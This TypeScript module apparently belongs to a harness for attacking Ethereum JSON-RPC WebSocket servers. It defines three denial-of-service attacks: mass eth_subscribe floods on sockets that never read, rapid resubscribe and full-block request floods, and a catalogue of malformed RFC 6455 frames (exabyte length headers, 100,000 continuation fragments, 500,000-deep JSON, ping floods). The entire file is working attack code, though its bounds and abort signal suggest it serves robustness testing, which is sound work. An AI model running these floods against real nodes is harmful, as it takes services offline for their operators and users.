import type { Socket } from "node:net";
import { call, times } from "../attacker/requests.ts";
import { frame, OPCODE, openWebSocket } from "../attacker/websocket.ts";
import type { Attack } from "./attack.ts";

const KINDS = [["newHeads"], ["logs", {}], ["newPendingTransactions"], ["newPendingTransactions", true], ["syncing"]] as const;

export const subscriptions: Attack = {
  name: "subscriptions",
  what: "100 WebSockets that each subscribe 2,000 times to everything and read nothing",
  bounds: { connections: 100 },
  async run({ ws }, attacker) {
    await Promise.all(
      times(100, async () => {
        while (!attacker.signal.aborted) {
          const socket = await openWebSocket(attacker, ws);
          if (!socket) {
            await attacker.pause(100);
            continue;
          }
          socket.pause();
          const requests = times(2000, (id) => frame(call("eth_subscribe", KINDS[id % KINDS.length]!, id)));
          attacker.count("subscriptions", requests.length);
          attacker.send(socket, Buffer.concat(requests));
          await closed(socket);
        }
      }),
    );
  },
};

export const resubscribing: Attack = {
  name: "resubscribing",
  what: "WebSockets that subscribe, cancel and ask for large answers as fast as they can",
  bounds: { connections: 20 },
  async run({ ws }, attacker) {
    await Promise.all(
      times(20, async (lane) => {
        const socket = await openWebSocket(attacker, ws);
        socket?.resume();
        for (let round = 0; socket && !socket.destroyed; round++) {
          const text =
            lane % 2 === 0
              ? call("eth_subscribe", KINDS[round % KINDS.length]!)
              : call("eth_getBlockByNumber", [`0x${(round % 8).toString(16)}`, true]);
          attacker.count("requests");
          if (attacker.send(socket, frame(text))) await attacker.pause(0);
          else await drained(socket);
        }
      }),
    );
  },
};

const over = Buffer.alloc(126, "x");
const MALFORMED: Readonly<Record<string, readonly Buffer[]>> = {
  "not masked": [frame("{}", { isMasked: false })],
  "reserved bits": [frame("{}", { reservedBits: 7 })],
  "reserved opcode": [frame("{}", { opcode: 5 })],
  "a frame of exabytes": [frame("{}", { claimedLength: 0x7fff_ffff_ffff_ffffn })],
  "a negative length": [frame("{}", { claimedLength: 0xffff_ffff_ffff_ffffn })],
  "16 MiB announced": [frame("{}", { claimedLength: 16n << 20n })],
  "a long ping": [frame(over, { opcode: OPCODE.ping })],
  "a ping in pieces": [frame("a", { opcode: OPCODE.ping, isLast: false })],
  "nothing to continue": [frame("{}", { opcode: OPCODE.continuation })],
  "text that is not UTF-8": [frame(Buffer.from([0xff, 0xfe, 0xc0, 0x80]))],
  "close with one byte": [frame("x", { opcode: OPCODE.close })],
  "close with a bad code": [frame(Buffer.from([0x03, 0xe7]), { opcode: OPCODE.close })],
  "a million pieces": [
    frame("[", { isLast: false }),
    ...times(100_000, () => frame("", { opcode: OPCODE.continuation, isLast: false })),
  ],
  pings: times(50_000, () => frame("p", { opcode: OPCODE.ping })),
  binary: [frame(Buffer.alloc(1 << 16, 0xff), { opcode: OPCODE.binary })],
  "deep JSON": [frame("[".repeat(500_000))],
  bytes: [Buffer.alloc(1 << 16, 0x37)],
};

export const malformedFrames: Attack = {
  name: "malformed-frames",
  what: "WebSocket frames that RFC 6455 does not allow, and floods of those that it does",
  bounds: { connections: 20 },
  async run({ ws }, attacker) {
    const kinds = Object.values(MALFORMED);
    await Promise.all(
      times(20, async (lane) => {
        for (let round = lane; !attacker.signal.aborted; round++) {
          const socket = await openWebSocket(attacker, ws);
          if (!socket) {
            await attacker.pause(100);
            continue;
          }
          attacker.count("messages");
          attacker.send(socket, Buffer.concat(kinds[round % kinds.length]!));
          await Promise.race([closed(socket), attacker.pause(500)]);
          socket.destroy();
        }
      }),
    );
  },
};

const closed = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    if (socket.destroyed) resolve();
    else socket.once("close", () => resolve());
  });

const drained = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    socket.once("drain", resolve);
    socket.once("close", () => resolve());
  });
